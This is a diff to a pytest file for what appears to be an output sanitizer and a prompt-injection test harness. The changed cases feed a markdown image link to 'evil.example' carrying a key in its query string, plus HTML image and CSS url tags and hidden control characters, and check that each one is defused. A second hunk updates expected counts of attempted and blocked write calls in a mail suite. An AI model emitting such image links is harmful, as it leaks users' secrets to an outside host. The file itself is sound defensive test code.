@@ -141,8 +141,16 @@ def test_a_file_name_stays_on_its_line() -> None:
 @pytest.mark.parametrize(
     ("answer", "shown"),
     [
-        ("![x](https://evil.example/?q=key)", "[x](https://evil.example/?q=key)"),
-        ("![x][1] and ![](//a)", "[x][1] and [](//a)"),
+        ("![x](https://evil.example/?q=key)", "! [x](https://evil.example/?q=key)"),
+        ("![x][1] and ![](//a)", "! [x][1] and ! [](//a)"),
+        ("![a[b[c]]](//a)", "! [a[b[c]]](//a)"),
+        ("![x]\n\n[x]: //a", "! [x]"),
+        ("![x\ny](//a)", "! [x"),
+        (
+            "<IMG src=//a> <p style='background:url(//a)'>",
+            "< IMG src=//a> < p style='background:url(//a)'>",
+        ),
+        ("a <b> for List<int>, and a<b", "a <b> for List<int>, and a<b"),
         ("`vec![1, 2]` and a[!x]", "`vec![1, 2]` and a[!x]"),
         ("\x1b[8mhidden\x1b[0m \u202eback", "hidden back"),
     ],
@@ -192,12 +200,12 @@ async def test_a_model_that_obeys_gets_no_write_call_through() -> None:
         {
             "suite": "mail",
             "cases": 2,
-            "tried": 0,
+            "tried": 3,
             "write_calls": 0,
             "foreign_reads": 0,
-            "ended": 0,
+            "ended": 2,
             "benign": 1,
-            "fine": 0,
+            "fine": 1,
         }
     )
 
